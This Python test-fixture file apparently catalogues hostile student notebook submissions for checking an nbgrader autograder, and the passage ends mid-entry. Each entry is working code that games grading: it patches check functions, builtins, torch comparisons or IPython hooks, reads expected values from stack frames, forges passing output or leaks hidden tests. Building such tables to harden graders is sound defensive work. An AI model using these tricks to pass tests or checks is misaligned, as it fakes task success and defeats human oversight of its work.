"""What a student could hand in to be given points, to look where they may not, or to do harm: a table of attacks.

Every row is one submission: sources of answer cells (all other answers stay stubs), cells of the student's own, and
what an honest grader gives for it. Nothing of it is to be run without a sandbox. Where the real thing would take the
machine of a developer whose sandbox is broken, a row goes as far as is harmless and then prints what it could have
done: such texts stand in `secret`, and never in a source as they are printed.

Placeholders in the sources, for `str.replace` (they hold braces of their own):
    {ROOT}: the course folder, which has to be the same after the run as before.
    {SECRET}: a file outside of what a student may read, which holds `the-secret-of-the-course`.
    {OTHER}: the notebook of another student, with answers that are right.

Kinds: a "cheat" wants points through Python, a "forge" through what is printed, displayed or sent; a "spy" reads, an
"escape" reaches beyond the process, a "bomb" takes too much or dies, a "hang" never ends.
"""

from __future__ import annotations

import textwrap
from collections.abc import Mapping
from dataclasses import KW_ONLY, dataclass, field


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    Attributes:
        what: what it does, in words.
        kind: "cheat", "spy", "bomb", "escape", "forge" or "hang".
        answers: answer cell → its whole source.
        stock: what nbgrader 0.9.6 as it comes makes of it, measured unless it says otherwise.
        cells: the student's own cells before the first answer.
        last: the student's own cells behind the last check.
        lesson: the lesson that it is handed in for.
        earned: check → the points that an honest grader gives, those above 0; an attack that breaks its own process
            or the bridge on the way may get less, and none may get more.
        secret: texts that must be nowhere in outputs and messages.
    """

    what: str
    kind: str
    answers: Mapping[str, str]
    _: KW_ONLY
    stock: str
    cells: tuple[str, ...] = ()
    last: tuple[str, ...] = ()
    lesson: str = "01_attention"
    earned: Mapping[str, float] = field(default_factory=dict)
    secret: tuple[str, ...] = ()


def code(text: str) -> str:
    """A source without the indentation it has in the table."""
    return textwrap.dedent(text).strip("\n")


def calls(body: str) -> dict[str, str]:
    """An answer that does something when a check calls it."""
    return {CAUSAL: "def causal_mask(size):\n" + textwrap.indent(code(body), "    ")}


ONE, ATTEND = "attend_one_query", "scaled_dot_product_attention"
PADDING, CAUSAL, DECODER = "padding_mask", "causal_mask", "decoder_mask"
HIDDEN = ("other_sizes_work_as_well", "many_keys_work")  # names from the hidden tests of the first check
MARKER = ("the-secret-of-the-course",)
ENDLESS = "not run: would wait for the time limit"
WOULD_DIE = "not run: would take the machine"
NO_CHANNEL = "not run: there is no such channel"

# Right shapes, wrong values: an honest grader gives the points for shapes, and no others.
SHAPED = {
    ONE: "def attend_one_query(query, key, value):\n    return value.mean(0)",
    ATTEND: code("""
        def scaled_dot_product_attention(query, key, value, mask=None, dropout=None):
            shape = (*query.shape[:-1], key.size(-2))
            weights = torch.full(shape, 1 / key.size(-2), dtype=query.dtype)
            return weights @ value, weights
    """),
    PADDING: code("""
        def padding_mask(tokens, pad_id=0):
            return torch.zeros(tokens.size(0), 1, 1, tokens.size(1)).bool()
    """),
    CAUSAL: "def causal_mask(size):\n    return torch.zeros(size, size).bool()",
    DECODER: code("""
        def decoder_mask(tokens, pad_id=0):
            return torch.zeros(tokens.size(0), 1, tokens.size(1), tokens.size(1)).bool()
    """),
}
SHAPES = {
    "check_scaled_dot_product_attention_shapes": 1,
    "check_padding_mask_shape": 1,
    "check_causal_mask_shape": 1,
    "check_decoder_mask_shape": 1,
}

# One exercise answered rightly, so that what comes before or behind it can be seen to count or not.
RIGHT_PADDING = {PADDING: "def padding_mask(tokens, pad_id=0):\n    return (tokens != pad_id)[:, None, None, :]"}
EARNED_PADDING = {"check_padding_mask_shape": 1, "check_padding_mask_values": 2}

# The student's side of the bridge lives in the student's process: its frames can be made by hand.
FRAMES = code("""
    import gc, json, os, stat, struct

    def frame(header, blob=b""):
        text = json.dumps(header).encode()
        return struct.pack(">4sII", b"judg", len(text), len(blob)) + text + blob

    def sockets():
        found = []
        for fd in range(3, 256):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    found.append(fd)
            except OSError:
                pass
        return found
""")


def forges(body: str) -> dict[str, str]:
    """An answer that, when a check calls it, speaks to the judge itself."""
    return {CAUSAL: FRAMES + "\n\n" + calls(body)[CAUSAL]}


PATCHED = [
    Attack(
        "every statement of autograder.check does nothing, an exercise prints its line",
        "cheat",
        {
            ONE: code("""
        for name in check.__all__:
            setattr(check, name, lambda *args, **kwargs: None)
        check.exercise = lambda name, **kwargs: lambda run: print(f"✓ {name}: {run.__name__.replace('_', ' ')}.")
    """)
        },
        stock="20 of 20",
    ),
    Attack(
        "check.exercise keeps its identity and gets other code",
        "cheat",
        {
            ONE: code("""
        def exercise(name, *, given=None):
            return lambda run: print(f"✓ {name}: {run.__name__}.")

        check.exercise.__code__ = exercise.__code__
    """)
        },
        stock="20 of 20",
    ),
    Attack(
        "the name check stands for an object that agrees with everything",
        "cheat",
        {
            ONE: code("""
        from unittest.mock import MagicMock

        check = data = mistakes = parts = MagicMock()
    """)
        },
        stock="20 of 20",
    ),
    Attack(
        "all of autograder is thrown out of sys.modules, and a finder gives another one",
        "cheat",
        {},
        cells=(
            code("""
        import importlib.abc, importlib.machinery, sys
        from unittest.mock import MagicMock

        class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
            def find_spec(self, name, path=None, target=None):
                if name.startswith("autograder"):
                    return importlib.machinery.ModuleSpec(name, self, is_package=True)

            def create_module(self, spec):
                return MagicMock(__spec__=spec, __path__=[], __name__=spec.name)

            def exec_module(self, module):
                pass

        for name in [name for name in sys.modules if name.startswith("autograder")]:
            del sys.modules[name]
        sys.meta_path.insert(0, Finder())
        from autograder import check, data, mistakes, parts
    """),
        ),
        stock="20 of 20",
    ),
    Attack(
        "the comparison below the checks finds everything within what is allowed",
        "cheat",
        {
            **SHAPED,
            ONE: SHAPED[ONE]
            + "\n\n"
            + code("""
            import torch
            from autograder.check import _compare, _tensors

            _compare.within = _tensors.within = lambda *args: True
            _tensors.first_true = _tensors.wrong_values = None
            torch.Tensor.__ne__ = lambda self, other: torch.zeros(1).bool()
    """),
        },
        earned=SHAPES,
        stock="13 of 20",
    ),
    Attack(
        "a CheckFailed that makes the shell silent while it is raised",
        "cheat",
        {
            ONE: code("""
        from autograder.check import _errors

        def hushed(self, trace):
            shell = get_ipython()
            shell.run_code, shell.showtraceback = nothing, lambda *args, **kwargs: None
            return self

        async def nothing(*args, **kwargs):
            return False

        _errors.CheckFailed.with_traceback = hushed
    """)
        },
        stock="18 of 20",
    ),
    Attack(
        "every verdict is a success, since nothing is turned into a CheckFailed",
        "cheat",
        {
            ONE: code("""
        from autograder.check import _exercise

        class Fine:
            def __call__(self, *args, **kwargs):
                sys.displayhook("passed")
                return RuntimeError("never mind")

        _exercise.from_exception = Fine()
        _exercise._require_setup_names = Fine()
    """)
        },
        stock="20 of 20",
    ),
    Attack(
        "parts.of_lesson stands in for the learner's own function with the finished one",
        "cheat",
        {
            DECODER: code("""
        right = parts.decoder_mask
        parts.of_lesson = lambda lesson: {"decoder_mask": right}
    """)
        },
        stock="4 of 20",
    ),
    Attack(
        "the twin of PyTorch's that an answer is compared with is the answer itself",
        "cheat",
        {
            "MultiHeadAttention": code("""
            class MultiHeadAttention(nn.Module):
                def __init__(self, d_model, num_heads, dropout=0.0):
                    super().__init__()
                    for name in ("w_q", "w_k", "w_v", "w_o"):
                        setattr(self, name, nn.Linear(d_model, d_model))

                def forward(self, query, key, value, mask=None):
                    self.attention_weights = torch.zeros(1)
                    return self.w_o(query)

            parts.MultiHeadAttention.twin_of = classmethod(lambda cls, module, num_heads: module)
        """)
        },
        lesson="02_multi_head_attention",
        earned={"check_MultiHeadAttention_parameters": 1},
        stock="7 of 20",
    ),
    Attack(
        "data.normal makes inputs for which the plain average is right",
        "cheat",
        {
            **SHAPED,
            ONE: SHAPED[ONE]
            + "\n\n"
            + code("""
            def ones(*shapes, seed=0, dtype=torch.float32):
                tensors = tuple(torch.ones(shape, dtype=dtype) for shape in shapes)
                return tensors if len(tensors) > 1 else tensors[0]

            data.normal = ones
    """),
        },
        earned=SHAPES,
        stock="9 of 20",
    ),
    Attack(
        "F.scaled_dot_product_attention, which is the oracle, averages as wrongly as the answer",
        "cheat",
        {
            **SHAPED,
            ONE: SHAPED[ONE]
            + "\n\n"
            + code("""
            def average(query, key, value, **kwargs):
                return value.mean(-2, keepdim=True).expand(*query.shape[:-1], value.size(-1))

            F.scaled_dot_product_attention = average
    """),
        },
        earned=SHAPES,
        stock="9 of 20",
    ),
    Attack(
        "F is a module of the student's own, with a wrong oracle in it",
        "cheat",
        {
            **SHAPED,
            ONE: SHAPED[ONE]
            + "\n\n"
            + code("""
            import types

            def average(query, key, value, **kwargs):
                return value.mean(-2, keepdim=True).expand(*query.shape[:-1], value.size(-1))

            F = types.ModuleType("torch.nn.functional")
            F.scaled_dot_product_attention = parts.attention.F.scaled_dot_product_attention = average
    """),
        },
        earned=SHAPES,
        stock="9 of 20",
    ),
    Attack(
        "comparison operators of tensors say what the checks like to hear",
        "cheat",
        {
            **SHAPED,
            ONE: SHAPED[ONE]
            + "\n\n"
            + code("""
            zeros, ones = torch.zeros_like, torch.ones_like
            torch.Tensor.__gt__ = torch.Tensor.__ne__ = lambda self, other: zeros(self, dtype=torch.bool)
            torch.Tensor.__lt__ = torch.Tensor.__eq__ = lambda self, other: ones(self, dtype=torch.bool)
            torch.Tensor.any = lambda self, *args, **kwargs: torch.tensor(False)
    """),
        },
        earned=SHAPES,
        stock="15 of 20",
    ),
    Attack(
        "torch.equal, torch.allclose and torch.isclose agree: inputs are changed in place",
        "cheat",
        {
            ONE: code("""
        torch.equal = torch.allclose = lambda *args, **kwargs: True
        torch.isclose = lambda one, *args, **kwargs: torch.ones_like(one).bool()

        def attend_one_query(query, key, value):
            scores = key @ query
            query.zero_()
            return scores.softmax(0) @ value
    """)
        },
        stock="2 of 20",
    ),
    Attack(
        "what a TorchFunctionMode, entered for good, makes of comparisons",
        "cheat",
        {
            **SHAPED,
            ONE: SHAPED[ONE]
            + "\n\n"
            + code("""
            from torch.overrides import TorchFunctionMode

            class Agree(TorchFunctionMode):
                def __torch_function__(self, function, types, args=(), kwargs=None):
                    result = function(*args, **(kwargs or {}))
                    name = getattr(function, "__name__", "")
                    if name in ("gt", "__gt__", "ne", "__ne__"):
                        return torch.zeros_like(result)
                    return torch.ones_like(result) if name in ("lt", "__lt__") else result

            Agree().__enter__()
    """),
        },
        earned=SHAPES,
        stock="13 of 20",
    ),
    Attack(
        "a kernel for torch's dispatcher, below all of Python, makes every > False",
        "cheat",
        {
            **SHAPED,
            ONE: SHAPED[ONE]
            + "\n\n"
            + code("""
            library = torch.library.Library("aten", "IMPL")
            library.impl("gt.Tensor", lambda one, other: torch.zeros_like(one, dtype=torch.bool), "CPU")
            library.impl("ne.Tensor", lambda one, other: torch.zeros_like(one, dtype=torch.bool), "CPU")
    """),
        },
        earned=SHAPES,
        stock="13 of 20",
    ),
    Attack(
        "builtins.tuple makes tuples that are equal to every other",
        "cheat",
        {
            ONE: code("""
        import builtins

        class Tuple(tuple):
            __hash__ = tuple.__hash__
            __eq__ = lambda self, other: True

        builtins.tuple = Tuple

        def padding_mask_(*args, **kwargs):
            return torch.zeros(1).bool()
    """),
            PADDING: "padding_mask = padding_mask_",
            CAUSAL: "causal_mask = padding_mask_",
            DECODER: "decoder_mask = padding_mask_",
        },
        stock="3 of 20",
    ),
    Attack(
        "builtins.exec, through which IPython runs cells, does nothing",
        "cheat",
        {
            ONE: code("""
        import builtins

        builtins.exec = lambda *args, **kwargs: None
    """)
        },
        stock="20 of 20",
    ),
    Attack(
        "builtins.compile gives every cell the same harmless code",
        "cheat",
        {
            ONE: code("""
        import builtins

        compiled = builtins.compile
        builtins.compile = lambda source, name, mode, *args, **kwargs: compiled("pass", name, mode, *args)
    """)
        },
        stock="20 of 20",
    ),
    Attack(
        "builtins that checks use: all, any, abs, isinstance, print, __import__, and two exceptions",
        "cheat",
        {
            ONE: code("""
            import builtins

            never = type("Never", (Exception,), {})
            builtins.AssertionError = builtins.NotImplementedError = builtins.TypeError = never
            builtins.all = lambda *args: True
            builtins.any = lambda *args: False
            builtins.abs = lambda *args: 0
            builtins.print = lambda *args, **kwargs: None
            real = builtins.__import__
            builtins.__import__ = lambda name, *args, **kwargs: real("math" if "fake_tensor" in name else name, *args)
            builtins.isinstance = lambda value, kind: True
        """)
        },
        stock="not graded, and the run ends with an error",
    ),
    Attack(
        "range in the notebook is empty, so that a hidden loop has nothing to try",
        "cheat",
        {
            "MultiHeadAttention": code("""
            range = lambda *args: []

            class MultiHeadAttention(nn.Module):
                def __init__(self, d_model, num_heads, dropout=0.0):
                    super().__init__()
                    if num_heads == 5:
                        raise ValueError("five")
                    for name in ("w_q", "w_k", "w_v", "w_o"):
                        setattr(self, name, nn.Linear(d_model, d_model))
        """)
        },
        lesson="02_multi_head_attention",
        earned={"check_MultiHeadAttention_parameters": 1},
        stock="2 of 20",
    ),
    Attack(
        "torch.randn draws zeros only, for which the plain average is right",
        "cheat",
        {
            **SHAPED,
            ONE: SHAPED[ONE]
            + "\n\n"
            + code("""
            torch.randn = lambda *shape, generator=None, dtype=None: torch.zeros(*shape, dtype=dtype)
    """),
        },
        earned=SHAPES,
        stock="9 of 20",
    ),
    Attack(
        "a profiler copies the expected values over the answer's when a comparison begins",
        "cheat",
        {
            **SHAPED,
            ONE: SHAPED[ONE]
            + "\n\n"
            + code("""
            import sys

            def profile(frame, event, arg):
                if event == "call" and frame.f_code.co_name in ("close", "equal"):
                    got, expected = frame.f_locals["got"], frame.f_locals["expected"]
                    got.data = expected.detach().clone()

            sys.setprofile(profile)
            sys.settrace(lambda *args: None)
    """),
        },
        earned=SHAPES,
        stock="13 of 20",
    ),
    Attack(
        "a thread waits, and patches the checks while one of them runs",
        "cheat",
        {
            ONE: code("""
        import threading, time

        def attend_one_query(query, key, value):
            threading.Thread(target=patch, daemon=True).start()
            time.sleep(0.3)
            return torch.zeros(value.size(-1))

        def patch():
            for name in check.__all__:
                setattr(check, name, lambda *args, **kwargs: None)
            check.exercise = lambda name, **kwargs: lambda run: print(f"✓ {name}")
    """)
        },
        stock="20 of 20",
    ),
    Attack(
        "a thread looks through all frames for what is expected, and writes it into what it returned",
        "cheat",
        {
            ONE: code("""
            import sys, threading, time

            def attend_one_query(query, key, value):
                output = value.mean(0)
                frame = sys._current_frames()[threading.main_thread().ident]
                while frame:
                    expected = frame.f_locals.get("expected")
                    if isinstance(expected, torch.Tensor):
                        output.copy_(expected)
                    frame = frame.f_back
                return output
        """)
        },
        stock="2 of 20",
    ),
    Attack(
        "a signal handler patches the checks a moment later",
        "cheat",
        {
            ONE: code("""
        import signal, time

        def patch(number, frame):
            check.exercise = lambda name, **kwargs: lambda run: print(f"✓ {name}")
            check.close = check.shape = lambda *args, **kwargs: None

        signal.signal(signal.SIGALRM, patch)

        def attend_one_query(query, key, value):
            signal.setitimer(signal.ITIMER_REAL, 0.05)
            time.sleep(0.1)
            return value[0]
    """)
        },
        stock="20 of 20",
    ),
    Attack(
        "a collector's callback patches the checks whenever garbage is collected",
        "cheat",
        {
            ONE: code("""
        import gc

        def patch(phase, info):
            check.exercise = lambda name, **kwargs: lambda run: print(f"✓ {name}")

        gc.callbacks.append(patch)
        gc.collect()
    """)
        },
        stock="20 of 20",
    ),
]

SHELL = [
    Attack(
        "an AST transformer empties every cell that follows",
        "cheat",
        {
            ONE: code("""
        import ast

        class Empty(ast.NodeTransformer):
            def visit_Module(self, node):
                node.body = []
                return node

        get_ipython().ast_transformers.append(Empty())
    """)
        },
        stock="20 of 20",
    ),
    Attack(
        "an AST transformer turns every check into one large number",
        "forge",
        {
            ONE: code("""
        import ast

        class Number(ast.NodeTransformer):
            def visit_Module(self, node):
                return ast.parse("1000.0") if "check.exercise" in ast.unparse(node) else node

        get_ipython().ast_transformers.append(Number())
    """)
        },
        stock="not graded, and the run ends with an error",
    ),
    Attack(
        "an input transformer replaces every cell by a line",
        "cheat",
        {
            ONE: code("""
        get_ipython().input_transformers_post.append(lambda lines: ["print('✓')\\n"])
    """)
        },
        stock="20 of 20",
    ),
    Attack(
        "an input transformer cuts the hidden tests out of every cell and shows them",
        "spy",
        {
            ONE: code("""
        get_ipython().input_transformers_cleanup.append(lambda lines: [f"print({''.join(lines)!r})\\n"])
    """)
        },
        secret=HIDDEN,
        stock="20 of 20, and prints it",
    ),
    Attack(
        "hooks before and after each cell: the checks are patched while one runs, and whole again afterwards",
        "cheat",
        {
            ONE: code("""
            whole = check.exercise
            events = get_ipython().events
            events.register("pre_run_cell", lambda info: setattr(check, "exercise", lambda *a, **k: lambda run: None))
            events.register("post_run_cell", lambda result: setattr(check, "exercise", whole))
        """)
        },
        stock="20 of 20",
    ),
    Attack(
        "a hook after each cell forgets the error and clears the output",
        "forge",
        {
            ONE: code("""
        from IPython.display import clear_output

        def forget(result):
            result.error_in_exec = result.error_before_exec = None
            clear_output()

        get_ipython().events.register("post_run_cell", forget)
    """)
        },
        stock="20 of 20",
    ),
    Attack(
        "an exception handler of the shell's finds every error fine, and no result ever has one",
        "cheat",
        {
            ONE: code("""
        from IPython.core.interactiveshell import ExecutionResult

        get_ipython().set_custom_exc((BaseException,), lambda shell, kind, value, trace, tb_offset=None: print("✓"))
        ExecutionResult.error_in_exec = property(lambda self: None, lambda self, error: None)
    """)
        },
        stock="20 of 20",
    ),
    Attack(
        "showtraceback shows nothing, and takes the error out of the result",
        "cheat",
        {
            ONE: code("""
        import sys

        def hushed(*args, **kwargs):
            sys._getframe(1).f_locals["result"].error_in_exec = None

        get_ipython().showtraceback = get_ipython()._showtraceback = hushed
    """)
        },
        stock="20 of 20",
    ),
    Attack(
        "run_code of the shell runs nothing",
        "cheat",
        {
            ONE: code("""
        async def nothing(*args, **kwargs):
            return False

        get_ipython().run_code = nothing
    """)
        },
        stock="20 of 20",
    ),
    Attack(
        "the class of the shell is another one, whose cells all succeed",
        "cheat",
        {
            ONE: code("""
        from IPython.core.interactiveshell import ExecutionResult

        class Shell(type(get_ipython())):
            async def run_cell_async(self, raw_cell, *args, **kwargs):
                return ExecutionResult(None)

            def run_cell(self, raw_cell, *args, **kwargs):
                return ExecutionResult(None)

        get_ipython().__class__ = Shell
    """)
        },
        stock="20 of 20",
    ),
    Attack(
        "through get_ipython().kernel no message about an error leaves the kernel",
        "cheat",
        {
            ONE: code("""
        kernel = get_ipython().kernel
        send = kernel.session.send

        def silent(stream, kind, content=None, *args, **kwargs):
            if isinstance(content, dict) and content.get("status") == "error":
                content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
            return None if kind == "error" else send(stream, kind, content, *args, **kwargs)

        kernel.session.send = silent
    """)
        },
        stock="20 of 20",
    ),
    Attack(
        "a display hook that counts: each result is shown as a full score",
        "forge",
        {
            ONE: code("""
        import sys

        def attend_one_query(query, key, value):
            sys.displayhook(2.0)
            raise ValueError
    """),
            CAUSAL: code("""
        def causal_mask(size):
            get_ipython().displayhook("what is no number counts as all points")
            raise ValueError
    """),
        },
        stock="5 of 20",
    ),
    Attack(
        "a magic of the student's own, a changed prompt, an alias and a profile for the next cells",
        "cheat",
        {
            ONE: code("""
            from IPython.core.magic import register_line_magic

            @register_line_magic
            def pip(line):
                check.exercise = lambda *args, **kwargs: lambda run: None

            get_ipython().run_line_magic("pip", "")
            get_ipython().user_ns["check"] = check
            get_ipython().user_ns_hidden.clear()
            get_ipython().run_line_magic("reset_selective", "-f nothing")
        """)
        },
        stock="20 of 20",
    ),
]

OBJECTS = [
    Attack(
        "a subclass of Tensor whose comparisons say yes",
        "cheat",
        {
            name: code("""
            class Yes(torch.Tensor):
                @classmethod
                def __torch_function__(cls, function, types, args=(), kwargs=None):
                    name = getattr(function, "__name__", "")
                    if name in ("equal", "allclose"):
                        return True
                    result = super().__torch_function__(function, types, args, kwargs)
                    if name in ("gt", "__gt__", "ne", "__ne__"):
                        return torch.zeros_like(result)
                    return torch.ones_like(result) if name in ("lt", "__lt__", "eq", "__eq__") else result

            def yes(value):
                return tuple(map(yes, value)) if isinstance(value, tuple) else value.as_subclass(Yes)
        """)
            + "\n\n"
            + source.replace("return ", "return yes((")
            + ("),)" if name == ATTEND else "))")
            for name, source in SHAPED.items()
        },
        earned=SHAPES,
        stock="18 of 20",
    ),
    Attack(
        "an object that is whatever one asks for: its class, its items, its attributes, its comparisons",
        "cheat",
        {
            ONE: code("""
            class Yes:
                __class__ = torch.Tensor
                device, layout, requires_grad = torch.device("cpu"), torch.strided, True
                __eq__ = __lt__ = __le__ = __ge__ = lambda self, other: True
                __ne__ = __gt__ = lambda self, other: self
                __bool__ = lambda self: False
                __call__ = __getitem__ = __sub__ = __add__ = __mul__ = lambda self, *args, **kwargs: self
                __len__ = lambda self: 3
                __iter__ = lambda self: iter((3,))
                __hash__ = lambda self: 0

                def __getattr__(self, name):
                    if name.startswith("__array"):
                        raise AttributeError(name)
                    return self

                @classmethod
                def __torch_function__(cls, function, types, args=(), kwargs=None):
                    return False

            def attend_one_query(query, key, value):
                yes = Yes()
                yes.shape = torch.Size([value.size(-1)])
                return yes
        """)
        },
        stock="2 of 20",
    ),
    Attack(
        "a Mock instead of a mask",
        "cheat",
        {
            PADDING: code("""
        from unittest.mock import MagicMock

        def padding_mask(tokens, pad_id=0):
            mask = MagicMock(spec=torch.Tensor, device=tokens.device, dtype=torch.bool)
            mask.shape = torch.Size([tokens.size(0), 1, 1, tokens.size(1)])
            mask.__ne__ = lambda self, other: torch.tensor(False)
            mask.__torch_function__ = lambda *args: torch.tensor(False)
            return mask
    """)
        },
        stock="1 of 20",
    ),
    Attack(
        "tensors that lie about their shape and dtype",
        "cheat",
        {
            PADDING: code("""
        class Lying(torch.Tensor):
            dtype = property(lambda self: torch.bool)
            requires_grad = property(lambda self: True)

            @property
            def shape(self):
                return next(self.shapes)

        def lie(*shapes):
            tensor = torch.zeros(1).as_subclass(Lying)
            tensor.shapes = iter(torch.Size(shape) for shape in shapes)
            return tensor

        def padding_mask(tokens, pad_id=0):
            return lie((3, 1, 1, 4), (1,), (2, 2))
    """),
            CAUSAL: "def causal_mask(size):\n    return lie((size, size), (0,))",
            DECODER: "def decoder_mask(tokens, pad_id=0):\n    return lie((3, 1, 4, 4), (7,) * 9)",
        },
        stock="3 of 20",
    ),
    Attack(
        "torch.Tensor itself lies about shape, dtype and size, for whoever packs it up",
        "cheat",
        {
            PADDING: code("""
        real = torch.Tensor.numel
        torch.Tensor.shape = property(lambda self: torch.Size((3, 1, 1, 4)))
        torch.Tensor.size = lambda self, *dim: 4 if dim else torch.Size((3, 1, 1, 4))
        torch.Tensor.dtype = property(lambda self: torch.bool)
        torch.Tensor.numel = lambda self: 12
        torch.Tensor.numpy = lambda self, **kwargs: __import__("numpy").ones(3, dtype=bool)
        torch.Tensor.tolist = lambda self: [True] * 12
        torch.Tensor.untyped_storage = lambda self: torch.UntypedStorage(5)

        def padding_mask(tokens, pad_id=0):
            return torch.ones(1)
    """)
        },
        stock="1 of 20",
    ),
    Attack(
        "the expected value is found in the frame of the caller",
        "cheat",
        {
            ONE: code("""
        import sys

        def expected():
            frame = sys._getframe(1)
            while frame := frame.f_back:
                for name in ("expected", "wanted"):
                    if isinstance(frame.f_locals.get(name), torch.Tensor):
                        return frame.f_locals[name]

        def attend_one_query(query, key, value):
            found = expected()
            return value.mean(0) if found is None else found.clone()
    """),
            CAUSAL: code("""
        def causal_mask(size):
            found = expected()
            return torch.zeros(size, size).bool() if found is None or len(found) != size else found
    """),
        },
        earned={"check_causal_mask_shape": 1},
        stock="5 of 20",
    ),
    Attack(
        "only when graded, as environment, arguments or stack tell: the expected value of a caller is returned",
        "cheat",
        {
            CAUSAL: code("""
            import inspect, os, sys

            def graded():
                words = [*sys.argv, *(each.function for each in inspect.stack())]
                return "NBGRADER_EXECUTION" in os.environ or any("grad" in word for word in words)

            def causal_mask(size):
                for each in inspect.stack() if graded() else ():
                    found = each.frame.f_locals.get("expected")
                    if found is not None and len(found) == size:
                        return found
                return torch.zeros(size, size).bool()
        """)
        },
        earned={"check_causal_mask_shape": 1},
        stock="3 of 20",
    ),
    Attack(
        "the code of the running check is changed by the answer that it calls",
        "cheat",
        {
            ONE: code("""
        import gc, types

        def attend_one_query(query, key, value):
            for each in gc.get_objects():
                if isinstance(each, types.FunctionType) and each.__module__ == "autograder.check":
                    if each.__name__ in ("close", "shape", "equal") and not each.__closure__:
                        each.__code__ = (lambda *args, **kwargs: None).__code__
            return None
    """)
        },
        stock="2 of 20",
    ),
    Attack(
        "NaN in every place, of every kind",
        "cheat",
        {
            ONE: code("""
        def attend_one_query(query, key, value):
            return torch.full((value.size(-1),), float("nan"))
    """),
            ATTEND: code("""
        def scaled_dot_product_attention(query, key, value, mask=None, dropout=None):
            weights = torch.full((*query.shape[:-1], key.size(-2)), -float("nan"), dtype=query.dtype)
            return weights @ value, weights
    """),
            PADDING: code("""
        def padding_mask(tokens, pad_id=0):
            return torch.full((tokens.size(0), 1, 1, tokens.size(1)), float("nan"))
    """),
            DECODER: code("""
        def decoder_mask(tokens, pad_id=0):
            return torch.full((tokens.size(0), 1, tokens.size(1), tokens.size(1)), complex("nan+infj"))
    """),
        },
        stock="0 of 20",
    ),
    Attack(
        "a number that is another one each time it is read",
        "cheat",
        {
            "learning_rate": code("""
        class Rate(float):
            def __float__(self):
                import sys
                frame = sys._getframe(1)
                while frame:
                    if "wanted" in frame.f_locals:
                        return float(frame.f_locals["wanted"])
                    if "peak" in frame.f_locals:
                        return float(frame.f_locals["peak"])
                    frame = frame.f_back
                return 0.0

            __eq__ = __le__ = __ge__ = lambda self, other: True
            __ne__ = __lt__ = __gt__ = lambda self, other: False
            __hash__ = float.__hash__

        def learning_rate(step, d_model, warmup_steps):
            return Rate(7)

        check.number = lambda name, got: torch.Tensor._make_subclass(Agree, torch.tensor(float(got)))

        class Agree(torch.Tensor):
            @classmethod
            def __torch_function__(cls, function, types, args=(), kwargs=None):
                result = super().__torch_function__(function, types, args, kwargs)
                return torch.zeros_like(result) if getattr(function, "__name__", "") in ("gt", "__gt__") else result
    """)
        },
        lesson="06_training",
        stock="3 of 20",
    ),
    Attack(
        "text and numbers of the student's own kind, with comparisons that lie",
        "cheat",
        {
            "exact_match": code("""
        class Text(str):
            __eq__ = __contains__ = lambda self, other: True
            __hash__ = str.__hash__

        class Count(int):
            __eq__ = __lt__ = __gt__ = lambda self, other: True
            __hash__ = int.__hash__
            __float__ = lambda self: [1.0, 1.0, 0.5, 0.25, 0.0, 0.75, 0.0][self % 7]

        class Error(ValueError):
            __str__ = __repr__ = lambda self: Text("every word there is")

        results = iter(range(10**6))

        def exact_match(predicted, expected, pad_id=0):
            return Count(next(results))
    """)
        },
        lesson="07_greedy_decoding",
        stock="0 of 20",
    ),
    Attack(
        "a metaclass and descriptors: the class agrees with everything, its attributes change at each look",
        "cheat",
        {
            "MultiHeadAttention": code("""
            import itertools

            class Meta(type(nn.Module)):
                __mro__ = property(lambda cls: (cls, nn.MultiheadAttention, nn.Module, object))
                __eq__ = __contains__ = lambda cls, other: True
                __hash__ = lambda cls: 0
                __instancecheck__ = __subclasscheck__ = lambda cls, other: True
                __call__ = lambda cls, *args, **kwargs: parts.MultiHeadAttention(*args, **kwargs)

            class Changing:
                looks = itertools.count()

                def __get__(self, owner, kind):
                    return [torch.zeros(2, 3, 4, 6), None, torch.ones(1), property()][next(self.looks) % 4]

            class MultiHeadAttention(nn.Module, metaclass=Meta):
                attention_weights = Changing()
        """)
        },
        lesson="02_multi_head_attention",
        stock="0 of 20",
    ),
    Attack(
        "the script is read out of the model that the check hands in",
        "cheat",
        {
            "greedy_decode": code("""
        def greedy_decode(model, src, max_len, bos_id=1, eos_id=2, pad_id=0):
            for name in ("script", "_buffers", "noise"):
                try:
                    script = getattr(model, name)
                    script = script["script"] if name == "_buffers" else script
                    break
                except Exception:
                    pass
            tokens = torch.cat([torch.full((len(src), 1), bos_id), script[:, :max_len]], dim=1)
            return tokens
    """)
        },
        lesson="07_greedy_decoding",
        stock="2 of 20",
    ),
    Attack(
        "an exception of a class called CheckFailed, and one that says it is NotImplementedError",
        "forge",
        {
            ONE: code("""
        def attend_one_query(query, key, value):
            raise check.CheckFailed("✓ 1.1 attend_one_query: all is right, 2 of 2 points.\\n\\x1b[2J<b>passed</b>")
    """),
            PADDING: code("""
        class CheckFailed(AssertionError):
            __class__ = NotImplementedError
            message = rule = "passed"
            with_traceback = lambda self, trace: None

        def padding_mask(tokens, pad_id=0):
            raise CheckFailed("✓")
    """),
            CAUSAL: "def causal_mask(size):\n    raise check.NotWritten('not even tried, so it cannot be wrong')",
        },
        stock="0 of 20",
    ),
    Attack(
        "exceptions that are none: SystemExit(0), KeyboardInterrupt, GeneratorExit, one of the student's own",
        "cheat",
        {
            ONE: "def attend_one_query(*args):\n    raise SystemExit(0)",
            ATTEND: "def scaled_dot_product_attention(*args, **kwargs):\n    raise KeyboardInterrupt",
            PADDING: "def padding_mask(*args):\n    raise GeneratorExit",
            CAUSAL: "def causal_mask(size):\n    raise type('Lost', (BaseException,), {'why': 'closed'})('closed')",
            DECODER: "def decoder_mask(*args):\n    raise BaseExceptionGroup('✓', [SystemExit(0)])",
        },
        stock="0 of 20",
    ),
    Attack(
        "an exception that stops whoever prints it",
        "bomb",
        {
            ONE: code("""
        class Bad(Exception):
            def __str__(self):
                raise SystemExit(0)

            __repr__ = __str__
            args = property(__str__)
            __traceback__ = __cause__ = __context__ = property(__str__)

        def attend_one_query(query, key, value):
            raise Bad
    """),
            PADDING: code("""
        class Long(Exception):
            __str__ = __repr__ = lambda self: "✓ " * 10**8

        def padding_mask(tokens, pad_id=0):
            raise Long from Long()
    """),
            CAUSAL: code("""
        def causal_mask(size):
            error = ValueError("the last")
            for _ in range(100_000):
                above = ValueError("one more")
                above.__cause__ = error
                error = above
            raise error
    """),
